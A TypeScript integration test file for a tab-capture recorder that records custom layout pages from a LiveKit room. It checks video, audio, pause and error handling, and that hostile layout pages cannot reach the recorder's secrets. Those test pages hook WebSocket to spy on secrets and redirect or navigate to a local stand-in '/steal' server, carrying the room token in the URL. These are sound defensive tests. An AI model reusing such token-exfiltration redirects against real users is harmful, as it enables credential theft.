import fsSync from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import WebSocket from 'ws';
import { roomService } from '../../src/livekit/tokens';
import { bundledPageDir } from '../../src/recorder/static-files';
import { probe } from '../../src/recorder/probe';
import type { OutputFormat, RecordingResult } from '../../src/recordings/contract';
import { audioSamples, colourRegion, frameAt, tonePower } from '../helpers/media';
import { type RecorderRig, useRecorderRig } from '../helpers/recorder-rig';
import { sleep } from '../helpers/recorder-process';
import { testLivekit as livekit } from '../helpers/in-process-service';

/**
 * Custom layout pages recorded by tab capture, on the real recorder against livekit-server
 * with real Chromium publishers: the operator's page on another origin, what it may and may
 * not see of the recorder, and every check on the output file.
 */

let dir: string;
let publishers: RecorderRig['publishers'];
let recorder: RecorderRig['recorder'];
useRecorderRig((r) => ({ dir, publishers, recorder } = r));

describe('custom layout pages (tab capture)', () => {
  // The operator's layout host: another origin than the recorder's, serving the example
  // layout page and one that never says START_RECORDING.
  let layouts: http.Server;
  let origin: string;
  // another origin, where a page must never take the recorder (its URL carries the room token)
  let elsewhere: http.Server;
  let elsewhereOrigin: string;
  const elsewhereHits: string[] = [];
  const spyReports: string[] = [];
  /** leave.html's request for its cue to navigate away, answered once its recording has started. */
  const leaveCues: http.ServerResponse[] = [];
  const page = (body: string) => `<!doctype html><title>test layout</title><body></body><script src="/${body}"></script>`;
  const scripts: Record<string, string> = {
    // watches for anything of the recorder in its own world: globals, sockets, the DOM
    'spy.js': `const seen = []; const Real = window.WebSocket;
      window.WebSocket = function (url, p) { seen.push(String(url)); return new Real(url, p); };
      console.log('START_RECORDING');
      setTimeout(() => fetch('/report', { method: 'POST', body: JSON.stringify({ seen, recorder: typeof window.recorder, state: typeof window.recorderState, dom: document.documentElement.outerHTML.includes('secret') }) }), 3000);`,
    // leaves once a few 1 s chunks were sent (the chunks sent before it left are what is kept)
    // navigates away on the test's cue, so the navigation comes after the start however slow the machine
    'leave.js': `console.log('START_RECORDING'); fetch('/leave-cue').then(() => { location.href = ELSEWHERE + '/steal' + location.search; });`,
  };
  beforeAll(async () => {
    elsewhere = http.createServer((req, res) => {
      elsewhereHits.push(req.url ?? '');
      res.writeHead(200).end('stolen');
    });
    await new Promise<void>((r) => elsewhere.listen(0, '127.0.0.1', r));
    elsewhereOrigin = `http://127.0.0.1:${(elsewhere.address() as { port: number }).port}`;
    const pages = path.join(bundledPageDir(), 'examples');
    layouts = http.createServer((req, res) => {
      const name = new URL(req.url ?? '/', 'http://x').pathname.slice(1);
      if (name === 'report') {
        let body = '';
        req.on('data', (d: Buffer) => (body += d.toString()));
        req.on('end', () => (spyReports.push(body), res.writeHead(204).end()));
        return;
      }
      if (name === 'leave-cue') return void leaveCues.push(res);
      if (name === 'bounce.html') return void res.writeHead(302, { location: `${elsewhereOrigin}/steal${new URL(req.url ?? '/', 'http://x').search}` }).end();
      if (name === 'spy.html' || name === 'leave.html') return void res.writeHead(200, { 'content-type': 'text/html' }).end(page(name.replace('.html', '.js')));
      if (scripts[name]) return void res.writeHead(200, { 'content-type': 'text/javascript' }).end(scripts[name].replace('ELSEWHERE', JSON.stringify(elsewhereOrigin)));
      if (name === 'silent.html') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>silent</title><p>never ready</p>');
      if (!['custom-layout.html', 'custom-layout.js'].includes(name)) return void res.writeHead(404).end();
      res.writeHead(200, { 'content-type': name.endsWith('.js') ? 'text/javascript' : 'text/html', 'content-security-policy': "script-src 'self'" });
      fsSync.createReadStream(path.join(pages, name)).pipe(res);
    });
    await new Promise<void>((r) => layouts.listen(0, '127.0.0.1', r));
    origin = `http://127.0.0.1:${(layouts.address() as { port: number }).port}`;
  });
  afterAll(() => Promise.all([layouts, elsewhere].map((srv) => new Promise<void>((r) => srv.close(() => r())))));

  const customOptions = (page: string, format: OutputFormat = 'mp4') => ({ width: 1280, height: 720, fps: 30, format, layout: 'grid' as const, customLayoutUrl: `${origin}/${page}` });

  it('records what the page shows and plays: every participant in its tiles, every tone, at a constant 30 fps', async () => {
    const people = [
      { identity: 'magenta', colour: '#ff00ff', tone: 450 },
      { identity: 'lime', colour: '#80ff00', tone: 1500 },
    ];
    const joined = [];
    for (const p of people) joined.push(await publishers.add({ room: 'custom', ...p }));
    let result: RecordingResult;
    try {
      const live = await recorder.start({ id: `custom-${Date.now()}`, roomName: 'custom', outputPath: path.join(dir, 'custom.mp4'), options: customOptions('custom-layout.html') });
      await sleep(8000);
      result = await live.stop();
    } finally {
      await Promise.all(joined.map((p) => p.leave()));
    }
    const info = await probe('ffprobe', result.path, { countFrames: true });
    const video = info.streams.filter((s) => s.type === 'video');
    expect(video).toEqual([expect.objectContaining({ codec: 'h264', width: 1280, height: 720 })]);
    expect(info.streams.filter((s) => s.type === 'audio')).toHaveLength(1);
    expect(Math.abs(info.durationMs - (result.endedAt.getTime() - result.startedAt.getTime()))).toBeLessThan(500);
    // tab capture gives 19-30 fps here; the page redraws it at a fixed rate
    expect(video[0]!.fps).toBeGreaterThanOrEqual(29);
    for (const t of [5, info.durationMs / 1000 - 1]) {
      const frame = await frameAt(result.path, t);
      const [a, b] = people.map((p) => colourRegion(frame, p.colour));
      expect({ t, a: a!.share > 0.08, b: b!.share > 0.08 }).toEqual({ t, a: true, b: true });
      expect(Math.hypot(a!.cx - b!.cx, a!.cy - b!.cy)).toBeGreaterThan(0.2);
    }
    const samples = await audioSamples(result.path, 3, 4);
    const floor = Math.max(...[700, 1000, 2000].map((hz) => tonePower(samples, hz)));
    for (const p of people) expect(tonePower(samples, p.tone)).toBeGreaterThan(floor * 100);
    expect(await recorder.pool.openPages()).toBe(0);
    expect(recorder.ingest.openSockets).toBe(0);
  }, 90000);

  it('pauses and resumes a tab capture like the canvas: the pause is cut out, never seen', async () => {
    const cyan = await publishers.add({ room: 'custom-pause', identity: 'cyan', colour: '#00ffff', tone: 700 });
    let result: RecordingResult;
    let seam = 0;
    try {
      const live = await recorder.start({ id: `custom-pause-${Date.now()}`, roomName: 'custom-pause', outputPath: path.join(dir, 'custom-pause.mp4'), options: customOptions('custom-layout.html') });
      const start = await live.firstChunk;
      await sleep(start.recordingAt.getTime() + 3000 - Date.now());
      await live.setPaused(true);
      seam = (Date.now() - start.recordingAt.getTime()) / 1000;
      await cyan.setColour('#ffff00');
      await sleep(1500);
      await cyan.setColour('#ff00ff');
      await sleep(1000);
      await live.setPaused(false);
      await sleep(3000);
      result = await live.stop();
    } finally {
      await cyan.leave();
    }
    const info = await probe('ffprobe', result.path);
    expect(Math.abs(info.durationMs - 6000)).toBeLessThan(400);
    for (let t = seam - 0.6; t < seam + 0.6; t += 0.1) {
      const frame = await frameAt(result.path, t);
      const [before, paused, after] = ['#00ffff', '#ffff00', '#ff00ff'].map((c) => colourRegion(frame, c).share);
      expect({ t, paused: paused! < 0.002, shown: before! > 0.02 || after! > 0.02 }).toEqual({ t, paused: true, shown: true });
    }
  }, 90000);

  it("hears a live layout change as egress-sdk's onLayoutChanged does: the recorder participant's metadata", async () => {
    const pub = await publishers.add({ room: 'custom-change', identity: 'teal', colour: '#008080', tone: 800 });
    let result: RecordingResult;
    let changedAt = 0;
    try {
      const options = customOptions('custom-layout.html');
      const live = await recorder.start({ id: `custom-change-${Date.now()}`, roomName: 'custom-change', outputPath: path.join(dir, 'custom-change.mp4'), options });
      const start = await live.firstChunk;
      await sleep(start.recordingAt.getTime() + 2500 - Date.now());
      await live.update({ ...options, theme: 'light' });
      changedAt = (Date.now() - start.recordingAt.getTime()) / 1000;
      await sleep(2500);
      result = await live.stop();
    } finally {
      await pub.leave();
    }
    // the page's own background, above its tiles: dark before, light from within 1 s after
    const background = async (t: number) => colourRegion(await frameAt(result.path, t), '#eef0f4', 30).share;
    expect(await background(changedAt - 0.5)).toBeLessThan(0.01);
    expect(await background(changedAt + 1)).toBeGreaterThan(0.05);
  }, 90000);

  it('ends the recording when the page says END_RECORDING (here: the room was closed)', async () => {
    const pub = await publishers.add({ room: 'custom-end', identity: 'violet', colour: '#8000ff', tone: 600 });
    const live = await recorder.start({ id: `custom-end-${Date.now()}`, roomName: 'custom-end', outputPath: path.join(dir, 'custom-end.mkv'), options: customOptions('custom-layout.html', 'mkv') });
    await sleep(3000);
    await roomService(livekit).deleteRoom('custom-end');
    const result = await Promise.race([live.done, sleep(15000).then(() => null)]);
    await pub.leave();
    // the error too, when it ended otherwise (a CI run's ended 'failed', and said nothing of why)
    expect({ endReason: result?.endReason, error: result?.error }).toEqual({ endReason: 'room_ended', error: undefined });
    expect((await probe('ffprobe', result!.path)).durationMs).toBeGreaterThan(2500);
  }, 60000);

  it('a layout page that cannot load, or never says START_RECORDING, fails the start with LAYOUT_PAGE_FAILED and leaves nothing open', async () => {
    const start = (page: string) => recorder.start({ id: `custom-bad-${Date.now()}`, roomName: 'custom-bad', outputPath: path.join(dir, `custom-bad-${page}.mp4`), options: customOptions(page) });
    await expect(start('missing.html')).rejects.toMatchObject({ code: 'LAYOUT_PAGE_FAILED', message: expect.stringMatching(/HTTP 404/) });
    await expect(start('silent.html')).rejects.toMatchObject({ code: 'LAYOUT_PAGE_FAILED', message: expect.stringMatching(/START_RECORDING/) });
    expect(await recorder.pool.openPages()).toBe(0);
    expect(recorder.ingest.openSockets).toBe(0);
    expect(recorder.activeCount).toBe(0);
  }, 60000);

  it("the page's own scripts never see the ingest URL or its secret: the capture runs in a world of its own", async () => {
    const live = await recorder.start({ id: `custom-spy-${Date.now()}`, roomName: 'custom-spy', outputPath: path.join(dir, 'custom-spy.mkv'), options: customOptions('spy.html', 'mkv') });
    await sleep(4000);
    const result = await live.stop();
    expect(result.endReason).toBe('stopped');
    expect(spyReports).toHaveLength(1);
    expect(JSON.parse(spyReports[0]!)).toEqual({ seen: [], recorder: 'undefined', state: 'undefined', dom: false });
  }, 60000);

  it('a layout page never takes the room token to another origin: a redirect fails the start, a later navigation ends the recording', async () => {
    await expect(
      recorder.start({ id: `custom-bounce-${Date.now()}`, roomName: 'custom-bounce', outputPath: path.join(dir, 'bounce.mp4'), options: customOptions('bounce.html') }),
    ).rejects.toMatchObject({ code: 'LAYOUT_PAGE_FAILED' });
    const live = await recorder.start({ id: `custom-leave-${Date.now()}`, roomName: 'custom-leave', outputPath: path.join(dir, 'leave.mkv'), options: customOptions('leave.html', 'mkv') });
    await sleep(2000); // a recording with seconds in it
    leaveCues.splice(0).forEach((res) => res.writeHead(204).end());
    const result = await Promise.race([live.done, sleep(15000).then(() => null)]);
    expect(result).toMatchObject({ endReason: 'failed', error: { code: 'LAYOUT_PAGE_FAILED' } });
    expect((await probe('ffprobe', result!.path)).durationMs).toBeGreaterThan(1000);
    expect(elsewhereHits).toEqual([]);
    expect(await recorder.pool.openPages()).toBe(0);
  }, 60000);
});
